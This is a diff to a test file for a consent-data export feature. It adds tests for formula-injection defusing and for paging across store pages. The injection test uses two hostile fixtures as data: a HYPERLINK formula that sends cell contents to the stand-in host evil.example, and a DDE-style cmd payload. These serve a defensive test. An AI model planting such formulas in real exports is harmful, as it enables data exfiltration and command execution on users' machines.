@@ -324,25 +324,106 @@ describe('export', () => {
 		]);
 	});
 
-	it('pages through more consents than one store page holds', async () => {
+	it('defuses formulas in what outsiders typed: wording, evidence and inbound text', async () => {
+		const other = tempStore();
+		try {
+			const db = await other.open();
+			const c = contactNo(22);
+			await db.recordConsent([
+				{
+					contact: c.waId,
+					purpose: 'marketing',
+					action: 'opt_in',
+					at: T0,
+					source: 'web_form',
+					wording: '=HYPERLINK("https://evil.example/?d="&A1,"Confirm")',
+					evidence: { userAgent: '@SUM(1+1)*cmd|" /C calc"!A0', note: '+1 555 0100' },
+				},
+			]);
+			const [out] = await run({
+				storePath: other.path,
+				parameters: { resource: 'bulk', operation: 'export', includeHistory: true },
+			});
+			const [, consent] = parseCsv(binaryText(out[0]));
+			expect(consent[CONSENT_COLUMNS.indexOf('wording')]).toBe(
+				`'=HYPERLINK("https://evil.example/?d="&A1,"Confirm")`,
+			);
+			const [, event] = parseCsv(binaryText(out[0], 'history'));
+			const cell = (name: (typeof HISTORY_COLUMNS)[number]) => event[HISTORY_COLUMNS.indexOf(name)];
+			expect(cell('wording')).toMatch(/^'=HYPERLINK/);
+			expect(cell('evidence_user_agent')).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+			expect(cell('evidence_note')).toBe(`'+1 555 0100`);
+			expect(cell('contact')).toBe(c.waId);
+		} finally {
+			await other.cleanUp();
+		}
+	});
+
+	it('pages through more consents than one store page holds, reading histories a page at a time', async () => {
 		const big = tempStore();
 		try {
-			await big.open();
+			const db = await big.open();
 			const rows: Row[] = Array.from({ length: 5200 }, (_, i) => ({
 				phone: `+49 170 ${String(3000000 + i)}`,
 				time: at(0),
 			}));
 			await importRows(big.path, rows);
-			const [out] = await run({
-				storePath: big.path,
-				parameters: { resource: 'bulk', operation: 'export' },
-			});
-			expect(out[0].json).toMatchObject({ contacts: 5200, consents: 5200 });
-			const lines = parseCsv(binaryText(out[0]));
-			expect(lines).toHaveLength(5201);
-			expect(new Set(lines.slice(1).map((r) => r[0])).size).toBe(5200);
+			const one = jest.spyOn(db, 'getConsentHistory');
+			const many = jest.spyOn(db, 'getConsentHistories');
+			try {
+				const [out] = await run({
+					storePath: big.path,
+					parameters: { resource: 'bulk', operation: 'export', includeHistory: true },
+				});
+				expect(out[0].json).toMatchObject({ contacts: 5200, consents: 5200, historyEvents: 5200 });
+				const lines = parseCsv(binaryText(out[0]));
+				expect(lines).toHaveLength(5201);
+				expect(new Set(lines.slice(1).map((r) => r[0])).size).toBe(5200);
+				expect(parseCsv(binaryText(out[0], 'history'))).toHaveLength(5201);
+				expect(one).not.toHaveBeenCalled();
+				expect(many.mock.calls.map(([contacts]) => contacts.length)).toEqual([5000, 200]);
+			} finally {
+				one.mockRestore();
+				many.mockRestore();
+			}
 		} finally {
 			await big.cleanUp();
+		}
+	});
+
+	it('reads the history of a contact whose purposes span two store pages once', async () => {
+		const edge = tempStore();
+		try {
+			const db = await edge.open();
+			// 4999 contacts with one purpose, then one with two: its second purpose is on page two.
+			await db.recordConsent(
+				Array.from({ length: 5000 }, (_, i) => ({
+					contact: `4917040${String(i).padStart(5, '0')}`,
+					purpose: 'marketing',
+					action: 'opt_in' as const,
+					at: T0,
+					source: 'import',
+				})).concat([
+					{
+						contact: '491704004999',
+						purpose: 'transactional',
+						action: 'opt_in' as const,
+						at: T0,
+						source: 'import',
+					},
+				]),
+			);
+			const [out] = await run({
+				storePath: edge.path,
+				parameters: { resource: 'bulk', operation: 'export', format: 'json', includeHistory: true },
+			});
+			const document = JSON.parse(binaryText(out[0]));
+			expect(document).toMatchObject({ contacts: 5000 });
+			expect(document.consents).toHaveLength(5001);
+			expect(document.history).toHaveLength(5001);
+			expect(out[0].json).toMatchObject({ contacts: 5000, consents: 5001, historyEvents: 5001 });
+		} finally {
+			await edge.cleanUp();
 		}
 	});
 });
